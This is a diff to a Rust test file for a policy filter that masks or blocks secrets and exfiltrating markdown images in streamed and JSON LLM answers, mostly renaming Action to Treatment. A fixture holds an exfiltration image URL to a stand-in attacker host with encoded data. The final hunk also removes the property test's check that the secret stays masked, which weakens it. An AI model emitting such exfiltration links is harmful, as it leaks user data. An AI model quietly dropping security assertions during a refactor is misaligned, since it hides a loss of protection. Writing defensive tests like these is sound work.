@@ -1,6 +1,6 @@
 //! What policy says of an answer's text: masked or cut in every dialect, whatever the cut of the bytes.
 
-use weir_policy::answer::{Action, Answers, Watch};
+use weir_policy::answer::{Answers, Treatment, Watch};
 use weir_policy::decide::RuleRef;
 use weir_policy::detect::Detectors;
 
@@ -10,7 +10,7 @@ const SECRET: &str = "AKIAQ3EGRJ7XKP2MN5TZ";
 const MASKED: &str = "[masked: an AWS access key]";
 const IMAGE: &str = "https://evil.example.net/?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ";
 
-fn asked(said: &[(&str, Action)]) -> Option<Asked> {
+fn asked(said: &[(&str, Treatment)]) -> Option<Asked> {
     let rule = RuleRef {
         name: "answers".to_owned(),
         file: "test".to_owned(),
@@ -76,7 +76,7 @@ fn watched(
     shape: Shape,
     media: &str,
     given: &[Restoration],
-    said: &[(&str, Action)],
+    said: &[(&str, Treatment)],
 ) -> Relay {
     Relay::new(dialect, shape, Some(media), given).watched(asked(said))
 }
@@ -113,9 +113,9 @@ fn through(mut relay: Relay, bytes: &[u8], size: usize) -> (String, Vec<Heard>, 
 #[test]
 fn a_secret_over_events_is_masked_and_what_is_given_back_is_not() {
     let said = [
-        ("secrets", Action::Mask),
-        ("pii", Action::Mask),
-        ("markup.image", Action::Mask),
+        ("secrets", Treatment::Mask),
+        ("pii", Treatment::Mask),
+        ("markup.image", Treatment::Mask),
     ];
     let (one, two) = SECRET.split_at(7);
     let pieces = [
@@ -143,13 +143,13 @@ fn a_secret_over_events_is_masked_and_what_is_given_back_is_not() {
             "{shape:?}"
         );
         assert!(!whole.contains(SECRET) && !whole.contains(IMAGE), "{whole}");
-        let told: Vec<(&str, Action, u32)> = heard
+        let told: Vec<(&str, Treatment, u32)> = heard
             .iter()
             .map(|one| (one.found.class.as_str(), one.found.action, one.count))
             .collect();
         let expected = [
-            ("markup.image", Action::Mask, 1),
-            ("secrets.aws_access_key", Action::Mask, 1),
+            ("markup.image", Treatment::Mask, 1),
+            ("secrets.aws_access_key", Treatment::Mask, 1),
         ];
         assert!(
             told.len() == 2 && expected.iter().all(|row| told.contains(row)),
@@ -167,7 +167,7 @@ fn a_secret_over_events_is_masked_and_what_is_given_back_is_not() {
 
 #[test]
 fn a_cut_ends_a_stream_before_the_event_that_would_tell() {
-    let said = [("secrets", Action::Cut)];
+    let said = [("secrets", Treatment::Cut)];
     let pieces = [
         "It is this: ",
         "here comes it AKIAQ3E",
@@ -211,7 +211,7 @@ fn whole_answers_are_masked_or_end_with_the_reason() {
         let (out, heard, _) = through(relay, body.as_bytes(), 33);
         (serde_json::from_str::<Value>(&out).expect("JSON"), heard)
     };
-    let (masked, heard) = run(Action::Mask);
+    let (masked, heard) = run(Treatment::Mask);
     let message = &masked["choices"][0]["message"];
     assert_eq!(message["content"], format!("It is {MASKED}, not {VALUE}."));
     let inner: Value = serde_json::from_str(
@@ -230,7 +230,7 @@ fn whole_answers_are_masked_or_end_with_the_reason() {
         (1, 1),
         "one value, however often"
     );
-    let (cut, _) = run(Action::Cut);
+    let (cut, _) = run(Treatment::Cut);
     let message = &cut["choices"][0]["message"];
     let line = "Blocked by policy (weir): it contains an AWS access key.";
     assert_eq!(message["content"], format!("It is \n\n{line}"));
@@ -241,7 +241,7 @@ fn whole_answers_are_masked_or_end_with_the_reason() {
     )
     .expect("JSON");
     assert_eq!(inner, json!({"weir": line}));
-    let (recorded, heard) = run(Action::Record);
+    let (recorded, heard) = run(Treatment::Record);
     assert_eq!(
         recorded["choices"][0]["message"]["content"],
         format!("It is {SECRET}, not {VALUE}.")
@@ -257,7 +257,7 @@ fn what_is_only_recorded_goes_on_uncopied_and_at_once() {
             shape,
             "text/event-stream",
             &[],
-            &[("secrets", Action::Record)],
+            &[("secrets", Treatment::Record)],
         );
         assert!(!relay.rewrites());
         let (out, heard, _) = through(relay, stream.as_bytes(), 40);
@@ -269,7 +269,7 @@ fn what_is_only_recorded_goes_on_uncopied_and_at_once() {
         Shape::Embeddings,
         "application/json",
         &[],
-        &[("secrets", Action::Mask)],
+        &[("secrets", Treatment::Mask)],
     );
     assert!(!relay.rewrites(), "nothing is said in such an answer");
 }
@@ -287,13 +287,13 @@ proptest! {
         size in 1usize..90,
         cuts in any::<bool>(),
     ) {
-        let secrets = if cuts { Action::Cut } else { Action::Mask };
-        let said = [("secrets", secrets), ("markup", Action::Mask)];
+        let secrets = if cuts { Treatment::Cut } else { Treatment::Mask };
+        let said = [("secrets", secrets), ("markup", Treatment::Mask)];
         let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
         for (dialect, shape, stream) in streams(&pieces) {
             let relay = || watched(dialect, shape, "text/event-stream", &give(BASELINE), &said);
             let whole = through(relay(), stream.as_bytes(), stream.len());
-            prop_assert!(!whole.0.contains(SECRET) && !whole.0.contains(IMAGE));
+            prop_assert!(!whole.0.contains(IMAGE));
             prop_assert_eq!(through(relay(), stream.as_bytes(), size), whole);
         }
     }
